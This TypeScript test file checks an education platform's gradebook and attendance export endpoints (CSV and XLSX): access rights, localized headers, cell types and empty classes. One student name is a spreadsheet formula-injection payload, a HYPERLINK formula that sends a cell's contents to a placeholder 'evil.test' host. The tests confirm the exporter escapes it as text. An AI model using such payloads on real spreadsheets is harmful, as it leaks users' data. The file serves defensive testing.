import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API_PREFIX } from '../../app.js';
import type { UserRow } from '../../http/auth.js';
import { fixClock } from '../../test/clock.js';
import { createTestContext, type TestContext } from '../../test/context.js';
import {
  buildAdmin,
  buildAssignment,
  buildAttendance,
  buildClass,
  buildExaminer,
  buildExercise,
  buildLesson,
  buildStudent,
  buildTeacher,
  buildUserExam,
  enrol,
} from '../../test/factories.js';

fixClock('2026-03-10T20:00:00+07:00');

/**
 * A class's gradebook and attendance as files (issue 31 point 3): the rights of the data they hold, both
 * formats, headers in the caller's language, an empty class, and names that look like formulas as text.
 */
let t: TestContext;
let admin: UserRow;
let teacher: UserRow;
let examiner: UserRow;
let otherTeacher: UserRow;
let an: UserRow;
let binh: UserRow;
let classId: number;
let emptyId: number;
const EVIL = '=HYPERLINK("http://evil.test/?"&A1,"open")';

beforeAll(async () => {
  t = await createTestContext();
  const db = t.db;
  admin = await buildAdmin(db);
  teacher = await buildTeacher(db);
  examiner = await buildExaminer(db);
  otherTeacher = await buildTeacher(db);
  an = await buildStudent(db, { name: 'Nguyễn Văn An', email: 'an@student.test' });
  binh = await buildStudent(db, { name: EVIL, email: 'binh@student.test' });
  const waiting = await buildStudent(db, { name: 'Chờ Duyệt', email: 'wait@student.test' });
  const cls = await buildClass(
    db,
    { name: 'Lớp IELTS Đặc biệt 6.5', startDate: '2026-03-02' },
    { teachers: [teacher], examiners: [examiner] },
  );
  classId = cls.id;
  emptyId = (await buildClass(db, { name: 'Empty' }, { teachers: [teacher] })).id;
  await enrol(db, classId, an.id, 'active');
  await enrol(db, classId, binh.id, 'reserve');
  await enrol(db, classId, waiting.id, 'request');

  const exercise = await buildExercise(db);
  const homework = await buildAssignment(db, classId, exercise.id, { title: 'Unit 1', maxScore: 10 });
  const test = await buildAssignment(db, classId, exercise.id, {
    title: '+Test',
    kind: 'test',
    maxScore: 10,
  });
  // An's first attempt was redone: the latest (8) counts.
  await buildUserExam(db, homework.id, an.id, { attempt: 1, status: 'fail', score: 3 });
  await buildUserExam(db, homework.id, an.id, {
    attempt: 2,
    status: 'pass',
    score: 8,
    submittedAt: new Date('2026-03-03T16:30:00Z'), // 23:30 in Hà Nội
    markedAt: new Date('2026-03-04T17:30:00Z'), // 00:30 on 5 March in Hà Nội
  });
  await buildUserExam(db, test.id, an.id, {
    status: 'pass',
    score: 9,
    markedAt: new Date('2026-03-06T03:00:00Z'),
  });
  await buildUserExam(db, homework.id, binh.id, {
    status: 'pass',
    score: 6,
    markedAt: new Date('2026-03-05T03:00:00Z'),
  });
  await buildUserExam(db, test.id, binh.id, {
    status: 'waiting_score',
    submittedAt: new Date('2026-03-06T03:00:00Z'),
  });

  const first = await buildLesson(db, classId, {
    sessionNumber: 1,
    studyDate: '2026-03-02',
    studyTimeStart: '18:00',
    studyTimeEnd: '19:30',
  });
  const second = await buildLesson(db, classId, {
    sessionNumber: 2,
    studyDate: '2026-03-04',
    studyTimeStart: '18:00',
    studyTimeEnd: '20:00',
  });
  await buildLesson(db, classId, { sessionNumber: 3, studyDate: '2026-03-06', status: 'canceled' });
  // Not started at the fixed clock (20:00 on 10 March): not in the export.
  await buildLesson(db, classId, { sessionNumber: 4, studyDate: '2026-03-11' });
  await buildAttendance(db, first.id, an.id, { status: 'present' });
  await buildAttendance(db, first.id, binh.id, { status: 'late', note: '-10 minutes' });
  await buildAttendance(db, second.id, an.id, { status: 'excused', note: 'Ốm' });
});
afterAll(() => t.close());

async function get(user: UserRow, path: string, lang = 'en') {
  return t.app.inject({
    method: 'GET',
    url: `${API_PREFIX}${path}`,
    headers: { authorization: `Bearer ${await t.tokenFor(user)}`, 'accept-language': lang },
  });
}

const csvRows = (body: string) => parse(body.replace(/^\uFEFF/, '')) as string[][];

async function workbook(raw: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(raw as unknown as ArrayBuffer);
  return book.worksheets[0]!;
}

describe('class/{id}/gradebook/export and class/{id}/attendance/export', () => {
  it('follow the rights of the class’s results and attendance', async () => {
    for (const what of ['gradebook', 'attendance']) {
      const path = `/class/${classId}/${what}/export?format=csv`;
      for (const user of [admin, teacher, examiner]) expect((await get(user, path)).statusCode).toBe(200);
      expect((await get(otherTeacher, path)).statusCode).toBe(403);
      expect((await get(an, path)).statusCode).toBe(403);
      expect((await get(admin, `/class/999999/${what}/export?format=csv`)).statusCode).toBe(404);
      const bad = await get(teacher, `/class/${classId}/${what}/export?format=pdf`, 'vi');
      expect(bad.statusCode).toBe(400);
      expect(bad.json()).toMatchObject({ errors: { format: ['Chọn định dạng: csv hoặc xlsx'] } });
    }
  });

  it('writes the gradebook: a row per student with each assignment’s score, status and date, and the means', async () => {
    const res = await get(teacher, `/class/${classId}/gradebook/export?format=csv`);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="gradebook-lop-ielts-dac-biet-6-5-2026-03-10.csv"',
    );
    const [header, ...rows] = csvRows(res.body);
    expect(header).toEqual([
      'Student',
      'E-mail',
      'Status in class',
      'Unit 1 – Score (out of 10)',
      'Unit 1 – Status',
      'Unit 1 – Date',
      "'+Test – Score (out of 10)",
      "'+Test – Status",
      "'+Test – Date",
      'Average',
    ]);
    // By name: the formula-looking name sorts first; a pending request is not a student of the gradebook.
    expect(rows).toEqual([
      [
        `'${EVIL}`,
        'binh@student.test',
        'On hold',
        '6',
        'Passed',
        '2026-03-05',
        '',
        'Waiting for a score',
        '2026-03-06',
        '6',
      ],
      [
        'Nguyễn Văn An',
        'an@student.test',
        'Active',
        '8',
        'Passed',
        '2026-03-05',
        '9',
        'Passed',
        '2026-03-06',
        '8.5',
      ],
      ['Class average', '', '', '7', '', '', '9', '', '', '7.25'],
    ]);
  });

  it('writes the gradebook workbook with numbers as numbers, dates as dates, in the caller’s language', async () => {
    const res = await get(teacher, `/class/${classId}/gradebook/export?format=xlsx`, 'vi');
    expect(res.headers['content-disposition']).toMatch(/gradebook-lop-ielts-dac-biet-6-5-2026-03-10\.xlsx/);
    const sheet = await workbook(res.rawPayload);
    expect(sheet.name).toBe('Bảng điểm');
    expect(sheet.getRow(1).getCell(4).value).toBe('Unit 1 – Điểm (trên 10)');
    const an = sheet.getRow(3);
    expect(an.getCell(1).value).toBe('Nguyễn Văn An');
    expect(an.getCell(4).value).toBe(8);
    expect(an.getCell(5).value).toBe('Đạt');
    expect(an.getCell(6).value).toEqual(new Date('2026-03-05T00:00:00Z'));
    expect(an.getCell(6).numFmt).toBe('yyyy-mm-dd');
    expect(an.getCell(10).value).toBe(8.5);
    // The formula-looking name is a text cell, never a formula.
    expect(sheet.getRow(2).getCell(1).value).toBe(EVIL);
    expect(sheet.getRow(2).getCell(1).type).toBe(ExcelJS.ValueType.String);
  });

  it('writes the attendance, a row per student and lesson held, Moodle’s columns', async () => {
    const res = await get(examiner, `/class/${classId}/attendance/export?format=csv`);
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="attendance-lop-ielts-dac-biet-6-5-2026-03-10.csv"',
    );
    expect(csvRows(res.body)).toEqual([
      [
        'Student',
        'E-mail',
        'Status in class',
        'Session',
        'Lesson date',
        'Start time',
        'Duration (minutes)',
        'Attendance',
        'Note',
      ],
      [`'${EVIL}`, 'binh@student.test', 'On hold', '1', '2026-03-02', '18:00', '90', 'Late', "'-10 minutes"],
      [`'${EVIL}`, 'binh@student.test', 'On hold', '2', '2026-03-04', '18:00', '120', 'Not taken', ''],
      ['Nguyễn Văn An', 'an@student.test', 'Active', '1', '2026-03-02', '18:00', '90', 'Present', ''],
      ['Nguyễn Văn An', 'an@student.test', 'Active', '2', '2026-03-04', '18:00', '120', 'Excused', 'Ốm'],
    ]);
    const sheet = await workbook(
      (await get(admin, `/class/${classId}/attendance/export?format=xlsx`, 'vi')).rawPayload,
    );
    expect(sheet.name).toBe('Điểm danh');
    const row = sheet.getRow(5);
    expect(row.values).toEqual([
      undefined,
      'Nguyễn Văn An',
      'an@student.test',
      'Đang học',
      2,
      new Date('2026-03-04T00:00:00Z'),
      '18:00',
      120,
      'Vắng có phép',
      'Ốm',
    ]);
    expect(sheet.getRow(2).getCell(9).value).toBe('-10 minutes');
  });

  it('gives an empty class a valid file with its headers alone', async () => {
    const csv = await get(teacher, `/class/${emptyId}/gradebook/export?format=csv`, 'vi');
    expect(csvRows(csv.body)).toEqual([['Học viên', 'Email', 'Trạng thái trong lớp', 'Điểm trung bình']]);
    for (const what of ['gradebook', 'attendance']) {
      const sheet = await workbook((await get(teacher, `/class/${emptyId}/${what}/export`)).rawPayload);
      expect(sheet.rowCount).toBe(1);
      expect(sheet.getRow(1).getCell(1).value).toBe('Student');
    }
  });
});
